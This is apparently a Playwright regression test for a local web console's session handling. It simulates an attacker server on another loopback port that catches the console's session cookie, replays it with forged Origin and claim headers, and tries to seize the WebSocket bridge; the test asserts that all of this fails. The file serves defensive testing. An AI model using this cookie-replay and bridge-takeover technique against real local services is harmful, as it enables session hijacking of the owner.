// Issue 42, High 1: a page on another loopback port takes the console session at sign-in. Browsers send
// the console's cookie to every port of 127.0.0.1, so the moment the owner opens a console link the
// attacker's page (open in another tab) makes its own server receive the new cookie; that server replays
// everything it received (the cookie, every header, the console's Origin, the old claim header) at the
// console before the console's own page has loaded. It must become no session: the page secret travels in
// the redirect's fragment, which no server receives. The owner's page works throughout.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { WebSocket } from 'ws';
import { expect, go, test } from './support/fixtures';

interface Replay {
  /** What the console answered each replayed request (path: status). */
  answers: Record<string, number>;
  /** A page secret any answer carried (the old claim handed one out). */
  secret?: string;
  /** The bridge handshake with the cookie, the console's Origin and whatever secret it got. */
  bridge?: number | 'open';
}

function socketStatus(url: string, headers: Record<string, string>, protocols: string[]): Promise<number | 'open'> {
  return new Promise((resolve) => {
    const ws = new WebSocket(url, protocols, { headers });
    ws.once('open', () => {
      // Holding the bridge, it would move the provider key; the hub URL is checked on the owner's page.
      ws.send(JSON.stringify({ id: 1, channel: 'settings.save', args: { patch: { nodeName: 'taken-over' } } }));
      setTimeout(() => ws.terminate(), 200);
      resolve('open');
    });
    ws.once('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0));
    ws.once('error', () => resolve(0));
  });
}

/** The attacker's local server: its page beacons to it without pause; the first console cookie it sees, it replays at once. */
async function replayingServer(consolePort: number): Promise<{ url: string; done: Promise<Replay>; close: () => Promise<void> }> {
  const origin = `http://127.0.0.1:${consolePort}`;
  let finish!: (r: Replay) => void;
  const done = new Promise<Replay>((r) => (finish = r));
  let started = false;
  const replay = async (received: http.IncomingHttpHeaders) => {
    const cookie = (received.cookie ?? '')
      .split(';')
      .map((c) => c.trim())
      .filter((c) => c.startsWith(`swan_session_${consolePort}=`))
      .join('; ');
    // Everything the browser sent this server, re-addressed to the console, with the console's Origin.
    const headers: Record<string, string> = {};
    for (const [k, v] of Object.entries(received)) if (typeof v === 'string' && !['host', 'connection', 'content-length'].includes(k)) headers[k] = v;
    Object.assign(headers, { cookie, origin, referer: `${origin}/`, 'x-swan-page': 'claim', 'sec-fetch-site': 'same-origin' });
    const r: Replay = { answers: {} };
    for (const [method, p] of [
      ['POST', '/session/page'],
      ['GET', '/session/page'],
      ['GET', '/session'],
      ['GET', '/'],
    ] as const) {
      const res = await fetch(`${origin}${p}`, { method, headers, redirect: 'manual' });
      r.answers[`${method} ${p}`] = res.status;
      const body = await res.text();
      r.secret ??= /"page":"([A-Za-z0-9_-]+)"/.exec(body)?.[1] ?? res.headers.get('location')?.split('#swan-page=')[1];
    }
    r.bridge = await socketStatus(`ws://127.0.0.1:${consolePort}/bridge`, { cookie, origin }, ['swan-bridge', ...(r.secret ? [`swan-page.${r.secret}`] : [])]);
    finish(r);
  };
  const page = `<!doctype html><title>a local dev server</title><script>
const beacon = () => fetch('/beacon', { credentials: 'include', cache: 'no-store' }).finally(() => setTimeout(beacon, 10));
beacon();
</script>`;
  const server = http.createServer((req, res) => {
    if (!started && (req.headers.cookie ?? '').includes(`swan_session_${consolePort}=`)) {
      started = true;
      void replay(req.headers);
    }
    if (req.url === '/beacon') res.writeHead(204).end();
    else res.writeHead(200, { 'content-type': 'text/html' }).end(page);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    done,
    close: () =>
      new Promise((r) => {
        server.close(() => r());
        server.closeAllConnections();
      }),
  };
}

test('a server on another port that replays the cookie it got at sign-in, before the console page loads, gets no session', async ({ stack, context, page }) => {
  const consolePort = Number(new URL(stack.consoleUrl).port);
  const attacker = await replayingServer(consolePort);
  try {
    const evil = await context.newPage();
    await evil.goto(attacker.url);
    // The attacker's server wins every race: any request the console's page makes is held until its replay is
    // done (the issue measured it 131-385 ms after the click, 5 of 5 runs).
    await page.route(/\/session\/page$/, async (route) => {
      await attacker.done;
      await route.continue();
    });
    await page.goto(stack.consoleUrl);
    const replay = await attacker.done;
    expect(replay.secret, 'the replayed cookie was handed the page secret').toBeUndefined();
    expect(replay.bridge).toBe(401);
    expect(replay.answers['POST /session/page']).not.toBe(200);
    // The owner's page is the session: loaded, not told its session ended, its secret gone from the address.
    await expect(page.locator('[data-app-state="loaded"]')).toBeVisible();
    await go(page, 'settings');
    await expect(page.getByTestId('input-nodeName')).toHaveValue('e2e-provider');
    await expect(page.getByTestId('unauthorized-banner')).toHaveCount(0);
    expect(page.url()).not.toContain('swan-page');
    // Reloaded, the page still holds its session (the secret kept in its origin's storage).
    await page.reload();
    await expect(page.locator('[data-app-state="loaded"]')).toBeVisible();
    await expect(page.getByTestId('unauthorized-banner')).toHaveCount(0);
  } finally {
    await attacker.close();
  }
});
